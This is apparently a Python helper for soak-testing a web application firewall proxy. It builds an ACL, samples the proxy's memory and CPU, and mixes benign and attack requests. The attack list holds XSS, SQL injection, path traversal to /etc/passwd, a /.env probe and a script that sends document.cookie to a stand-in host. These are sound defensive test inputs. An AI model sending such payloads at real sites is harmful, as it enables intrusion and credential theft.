"""What the soak runs against: its traffic (benign and attack requests), the web ACL it reloads,
and the probes of the proxy process it samples (RSS, CPU time, reloads applied, its output)."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections import Counter
from pathlib import Path
from typing import Any

import httpx

REPO = Path(__file__).resolve().parents[1]

BENIGN = [
    ("GET", "/", None),
    ("GET", "/products?id=42&sort=price", None),
    ("GET", "/static/app.js", None),
    ("POST", "/api/orders", {"item": "book", "qty": 2, "note": "gift wrap, please"}),
    ("GET", "/search?q=blue+shoes&page=2", None),
    ("GET", "/account/settings", None),
]
ATTACKS = [
    ("GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None),
    ("GET", "/products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", None),
    ("GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", None),
    ("POST", "/api/orders", {"item": "<script>document.location='http://x/'+document.cookie</script>"}),
    ("GET", "/.env", None),
]
ATTACK_SHARE = 0.2
RATE_LIMIT = 100_000  # per address per 5 minutes: the rule is exercised (Redis), never reached



def soak_acl(directory: Path, toggle: bool) -> Path:
    """The default ACL (+ its IP sets) with the rate rule, and the toggle rule when ``toggle``."""
    acl = json.loads((REPO / "rules" / "default-web-acl.json").read_text())
    vis = {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": "soak"}
    acl["Rules"].append(
        {
            "Name": "SoakRate",
            "Priority": 900,
            "Action": {"Block": {}},
            "VisibilityConfig": vis,
            "Statement": {
                "RateBasedStatement": {
                    "Limit": RATE_LIMIT,
                    "AggregateKeyType": "FORWARDED_IP",
                    "ForwardedIPConfig": {"HeaderName": "X-Forwarded-For", "FallbackBehavior": "MATCH"},
                    "EvaluationWindowSec": 300,
                }
            },
        }
    )
    if toggle:
        acl["Rules"].append(
            {
                "Name": "SoakToggle",
                "Priority": 901,
                "Action": {"Block": {}},
                "VisibilityConfig": vis,
                "Statement": {
                    "ByteMatchStatement": {
                        "SearchString": "/soak-toggle",
                        "FieldToMatch": {"UriPath": {}},
                        "PositionalConstraint": "STARTS_WITH",
                        "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                    }
                },
            }
        )
    (directory / "ipsets").mkdir(parents=True, exist_ok=True)
    for path in (REPO / "rules" / "ipsets").glob("*.json"):
        shutil.copy(path, directory / "ipsets" / path.name)
    target = directory / "web-acl.json"
    tmp = directory / ".web-acl.json.tmp"
    tmp.write_text(json.dumps(acl))
    os.replace(tmp, target)  # the proxy never reads half a file
    return target


def rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def cpu_seconds(pid: int) -> float:
    """utime + stime of ``pid`` (fields 14 and 15 of /proc/PID/stat, after the command's parenthesis)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def reloads_counted(admin_url: str) -> float:
    text = httpx.get(admin_url + "/metrics").text
    return sum(
        float(line.rsplit(" ", 1)[1])
        for line in text.splitlines()
        if line.startswith("wafproxy_config_reloads_total") and 'result="success"' in line
    )


def drain(stream: Any, lines: list[str], counts: Counter[str]) -> None:
    """Read the proxy's output as it comes (a pipe nobody reads fills, and the proxy would block
    on its next log line); keep the first 50 lines, and count every line by its shape (digits
    as #) for the report."""
    for raw in iter(stream.readline, b""):
        line = raw.decode(errors="replace").rstrip()
        if len(lines) < 50:
            lines.append(line)
        counts[re.sub(r"[0-9]+", "#", line)] += 1
